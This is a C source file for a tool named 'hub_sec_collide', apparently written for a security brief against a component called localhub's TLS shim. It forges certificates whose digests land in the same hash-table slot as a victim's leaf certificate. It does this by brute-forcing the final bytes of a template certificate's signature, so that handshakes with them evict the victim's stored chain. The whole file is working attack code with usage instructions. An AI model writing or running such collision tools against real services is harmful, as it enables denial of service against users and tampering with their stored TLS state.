/*
 * hub_sec_collide: certificates that land in the same slot of localhub's TLS
 * shim chain table as a victim's leaf (brief HUBSEC). The shim keeps the
 * chain a client sent by leaf digest in a bounded table (home slot = first
 * two digest bytes mod 16384, 8 probes); a client that handshakes with eight
 * leaves of the victim's home slot displaces the victim's entry. No
 * signatures are made: the leaf's own signature is never checked by the shim
 * (it accepts every chain), so varying the last bytes of a template's
 * signature value is enough to move its digest.
 *
 * usage: hub_sec_collide VICTIM.pem TEMPLATE.pem OUTPREFIX N
 * writes OUTPREFIX1.pem .. OUTPREFIXN.pem (TEMPLATE's key signs for them all).
 * Exit 0, or 1 with a one-line reason.
 */
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SLOTS 16384u /* as hub/localhub_tlsshim.c */

static X509 *load(const char *path)
{
    FILE *f = fopen(path, "r");
    X509 *c = f ? PEM_read_X509(f, NULL, NULL, NULL) : NULL;
    if (f) fclose(f);
    return c;
}

static unsigned slot_of(const unsigned char *der, size_t n)
{
    unsigned char d[32];
    unsigned int dl = 0;
    EVP_Digest(der, n, d, &dl, EVP_sha256(), NULL);
    return ((unsigned)d[0] << 8 | d[1]) % SLOTS;
}

int main(int argc, char **argv)
{
    X509 *victim, *tmpl;
    unsigned char *vder = NULL, *tder = NULL;
    int vlen, tlen;
    long want;
    unsigned target;
    if (argc != 5 || (want = strtol(argv[4], NULL, 10)) < 1 || want > 64) {
        fprintf(stderr, "usage: hub_sec_collide VICTIM.pem TEMPLATE.pem OUTPREFIX N(1..64)\n");
        return 1;
    }
    victim = load(argv[1]);
    tmpl = load(argv[2]);
    if (!victim || !tmpl) {
        fprintf(stderr, "hub_sec_collide: cannot read %s\n", victim ? argv[2] : argv[1]);
        return 1;
    }
    vlen = i2d_X509(victim, &vder);
    tlen = i2d_X509(tmpl, &tder);
    if (vlen <= 0 || tlen < 16) {
        fprintf(stderr, "hub_sec_collide: cannot encode the certificates\n");
        return 1;
    }
    target = slot_of(vder, (size_t)vlen);
    long found = 0;
    for (unsigned long i = 0; i < (1ul << 24) && found < want; i++) {
        /* the last three bytes belong to the signature's s value */
        tder[tlen - 3] = (unsigned char)(i >> 16);
        tder[tlen - 2] = (unsigned char)(i >> 8);
        tder[tlen - 1] = (unsigned char)i;
        if (slot_of(tder, (size_t)tlen) != target) continue;
        const unsigned char *p = tder;
        X509 *c = d2i_X509(NULL, &p, tlen);
        char path[4096];
        FILE *f;
        if (!c) continue;
        snprintf(path, sizeof(path), "%s%ld.pem", argv[3], found + 1);
        f = fopen(path, "w");
        if (!f || !PEM_write_X509(f, c)) {
            fprintf(stderr, "hub_sec_collide: cannot write %s\n", path);
            return 1;
        }
        fclose(f);
        X509_free(c);
        found++;
    }
    if (found < want) {
        fprintf(stderr, "hub_sec_collide: only %ld certificates found\n", found);
        return 1;
    }
    printf("slot %u: %ld certificates\n", target, found);
    OPENSSL_free(vder);
    OPENSSL_free(tder);
    X509_free(victim);
    X509_free(tmpl);
    return 0;
}
